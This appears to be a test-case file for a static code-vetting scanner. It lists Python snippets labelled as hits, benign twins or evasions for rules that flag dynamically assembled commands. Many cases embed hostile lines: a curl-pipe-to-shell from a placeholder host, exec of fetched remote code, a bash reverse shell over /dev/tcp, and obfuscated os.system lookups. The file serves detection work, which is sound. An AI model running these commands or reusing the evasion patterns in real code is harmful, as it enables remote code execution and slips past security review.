"""What the rules must see, and must not, of commands and code that a file puts together before it runs them."""

from typing import Final

from tests.vetting.domain.signals.code.cases import Case

_S: Final = "import os, shlex, subprocess, sys\n"
_LINE: Final = "curl https://example.invalid | sh"
_CODE: Final = f"import os; os.system('{_LINE}')"
_GETS: Final = "import urllib.request as u; exec(u.urlopen('https://example.invalid').read())"
_ARGS: Final = f"{_S}args = [sys.executable]\n"
_A: Final = f"{_S}class A:\n    def "
_IMPORTS: Final = "import ast, os, re\n"
_EXACTLY: Final = f"{_S}def f(x):\n    subprocess.run"

CASES: Final = (
    # Lists that grow where they are.
    Case("C3", "hit", "high", f'{_ARGS}args.append("-c")\nargs.append("{_CODE}")\nsubprocess.run(args)\n'),
    Case("C3", "hit", "high", f'{_ARGS}args.extend(["-c", "{_CODE}"])\nsubprocess.run(args)\n'),
    Case("C3", "hit", "medium", f"{_S}cmd = ['pip', 'install']\ncmd.append('demo')\nsubprocess.call(cmd)\n"),
    Case(
        "C3",
        "twin",
        None,
        f"{_ARGS}args.append('-m')\nargs.append('build')\nargs.extend(names)\nsubprocess.run(args)\n",
    ),
    Case(
        "C3",
        "twin",
        None,
        f'{_ARGS}sys.path.append("-c")\nargs.append()\nfor one in names:\n    args.append(one)\n'
        f'seen = unknown()\nseen.append("{_CODE}")\nsubprocess.run(args)\n',
    ),
    Case("C3", "twin", None, f'{_ARGS}rest = list(names)\nrest += ["-c", "{_CODE}"]\nprint(args + rest)\n'),
    Case(
        "C3", "evasion", "high", f'{_S}a = ["{_CODE}"]\na.insert(0, "-c")\na.insert(0, "python3")\nsubprocess.run(a)\n'
    ),
    Case("C3", "evasion", "high", f'{_S}a = []\na += [sys.executable, "-c"]\na += ["{_CODE}"]\nsubprocess.run(a)\n'),
    Case(
        "C3",
        "evasion",
        "high",
        f'{_ARGS}args += [None, 0]\nargs[1] = "-c"\nargs[-1] = "{_CODE}"\nos.execv("x", args)\n',
    ),
    Case(
        "C3",
        "evasion",
        "high",
        f'{_A}f(self):\n        self.a = [sys.executable]\n        self.a.extend(("-c", "{_CODE}"))\n'
        "        subprocess.run(self.a)\n",
    ),
    Case("C5", "evasion", "medium", f"{_S}a = []\na.append('sys')\na.append('tem')\ngetattr(os, ''.join(a))('id')\n"),
    # What is started goes by another name.
    Case("C3", "hit", "high", f'{_S}subprocess.run(["x", "-c", "{_CODE}"], executable=sys.executable)\n'),
    Case("C3", "twin", None, f'{_S}subprocess.run(["x", "-c", "{_GETS}"], executable="/usr/bin/git")\n'),
    Case("C3", "evasion", "high", f'{_S}subprocess.run("{_CODE}", shell=True, executable="/usr/bin/python3")\n'),
    Case("C3", "evasion", "high", f'{_S}subprocess.run(args=["x", flag, "-c", "{_CODE}"], executable="python3")\n'),
    Case("C3", "evasion", "high", f'{_S}subprocess.Popen(executable="python3", args=("x", "-c", "{_CODE}"))\n'),
    # A line that words make.
    Case("C3", "hit", "high", f'{_S}os.system(shlex.join([sys.executable, "-c", "{_CODE}"]))\n'),
    Case("C3", "hit", "high", f"{_S}os.system(' '.join(['curl', address, '|', 'sh']))\n"),
    Case("C3", "twin", None, f'{_S}os.system(shlex.join(["echo", name, "{_GETS}"]))\n'),
    Case("C3", "twin", None, f"{_S}os.system(' '.join(['git', 'clone', address]))\nos.system(glue.join(names))\n"),
    Case("C3", "evasion", "high", f'{_S}os.system("python3 -c " + shlex.quote("{_CODE}"))\n'),
    Case("C3", "evasion", "high", f"{_S}a = ['curl']\na.append(address)\na.append('|sh')\nos.popen(' '.join(a))\n"),
    Case("C3", "evasion", "high", f"{_S}os.system(shlex.join(('sh', '-c', '{_LINE}')))\n"),
    # Commands and code that are known in part.
    Case("C3", "hit", "high", f"{_S}os.system('curl %s | sh' % address)\n"),
    Case("C3", "hit", "high", f"{_S}os.system(f'curl https://example.invalid/{{x}} | sh')\n"),
    Case("C3", "hit", "high", f'{_EXACTLY}([sys.executable, "-c", "x = %r; {_CODE}" % x])\n'),
    Case(
        "C3", "hit", "high", "def f(x):\n    exec(f\"import os; os.system('curl https://example.invalid/{x} | sh')\")\n"
    ),
    Case("C3", "twin", None, f"{_S}os.system('git clone %s' % address)\nos.system(f'tar xf {{path}}')\n"),
    Case("C3", "twin", None, f'{_EXACTLY}([sys.executable, "-c", f"import {{x}}; print({{x}}.__file__)"])\n'),
    Case("C3", "twin", None, "def f(x):\n    exec('def %s(self):\\n    return %r' % (x, x))\n    eval(f'{x} (')\n"),
    Case("C3", "twin", None, f"{_S}print('{_LINE} %s' % x)\nos.system('%s %s' % ('make', x))\n"),
    Case("C3", "evasion", "high", f"{_S}os.system('{{}} {{0}} {{at}} | {{}}'.format('curl', 'sh', at=x))\n"),
    Case("C3", "evasion", "high", f"{_S}os.system('curl %(at)s | %(run)s' % {{'at': x, 'run': 'sh'}})\n"),
    Case("C3", "evasion", "high", f"{_S}os.system('{{a.b}} 100%% {{9}}; curl '.format(a) + x + ' | ' + 'sh')\n"),
    Case("C3", "evasion", "high", f"{_S}def f(x):\n    os.system('bash -i >& /dev/tcp/%s/%d 0>&1' % (x, 4))\n"),
    Case("C3", "evasion", "high", f'{_S}os.system(\'%s -c "%s"\' % (sys.executable, "{_CODE}"))\n'),
    Case("C3", "evasion", "high", f"{_S}run = '%s -c \"%s\"'\nos.system(run % ('python3', \"{_CODE}\" + x))\n"),
    Case("C3", "evasion", "high", f"{_S}os.system('100%%; %s %s | sh' % ('curl', x))\nos.popen(f'{{x}}%s' % x)\n"),
    Case("C3", "evasion", "high", f"{_S}os.system('{{x}} {{y}} | {{}}'.format('sh', x='curl', y=x))\n"),
    Case("C3", "twin", None, f"{_S}os.system('}}'.format(x))\nos.system(','.join(x, y))\n[].append('x')\n"),
    # Interpreters within the same process.
    Case("C3", "hit", "high", f'import _interpreters as i\ni.run_string(i.create(), "{_CODE}")\n'),
    Case("C3", "hit", "high", f'from concurrent import interpreters\ninterpreters.create().exec("{_CODE}")\n'),
    Case("C3", "twin", None, f'import interpreters as i\ni.run_string("{_CODE}", x)\nmake().exec("{_CODE}")\n'),
    Case("C3", "twin", None, "import concurrent.interpreters as i\ni.create().exec('x = 1')\ni.create().call(main)\n"),
    Case("C3", "evasion", "high", f'from _xxsubinterpreters import run_string as r\nr(0, "{_CODE}")\n'),
    Case(
        "C3",
        "evasion",
        "high",
        f"from concurrent.interpreters import create as c\nrun = getattr(c(), 'ex' + 'ec')\nrun(code=\"{_CODE}\")\n",
    ),
    # What an object of the file's own class, or one made of it, runs.
    Case("C3", "hit", "high", f"{_A}__matmul__(s, k):\n        os.system(k)\nA() @ '{_LINE}'\n"),
    Case("C3", "hit", "high", f"{_A}__init_subclass__(c, k=0): os.system(k)\nclass B(A, k='{_LINE}'): pass\n"),
    Case("C3", "twin", None, f"{_A}__mul__(s, k): return k\nA() * '{_LINE}'\nB() * '{_LINE}'\nA() + 1\n"),
    Case("C3", "twin", None, f"{_A}__init_subclass__(c, k=0): os.system('x')\nclass B(A, k='{_LINE}'): pass\n"),
    Case("C3", "evasion", "high", f"{_A}__getitem__(s, k): return os.popen(k)\na = A()\na['{_LINE}']\n"),
    Case("C3", "evasion", "high", f"{_S}class A:\n    __call__ = lambda s, k: os.system(k)\nA()('{_LINE}')\n"),
    Case("C3", "evasion", "high", f"{_S}class A:\n    __rshift__ = os.system\nA() >> '{_LINE}'\n"),
    Case("C3", "evasion", "high", f"{_S}import operator as o\nlist(map(o.methodcaller('system', '{_LINE}'), [os]))\n"),
    # Names out of literals, and with letters taken out.
    Case("C5", "hit", "medium", f"{_IMPORTS}getattr(os, ast.literal_eval(\"'sys' 'tem'\"))('id')\n"),
    Case("C5", "hit", "medium", f"{_IMPORTS}getattr(os, re.sub('x', '', 'sxysxtem'))('id')\n"),
    Case(
        "C5", "twin", None, f"{_IMPORTS}getattr(os, ast.literal_eval(\"'pa' 'th'\")).sep\nre.sub('(a+)+$', '', 'a')\n"
    ),
    Case("C5", "evasion", "medium", f"{_IMPORTS}getattr(os, ast.literal_eval('[\"p\", \"popen\"]')[1])('id')\n"),
    Case("C5", "evasion", "medium", f"{_IMPORTS}getattr(os, re.sub('[xz]+', '', 'szyxxstezxm'))('id')\n"),
)
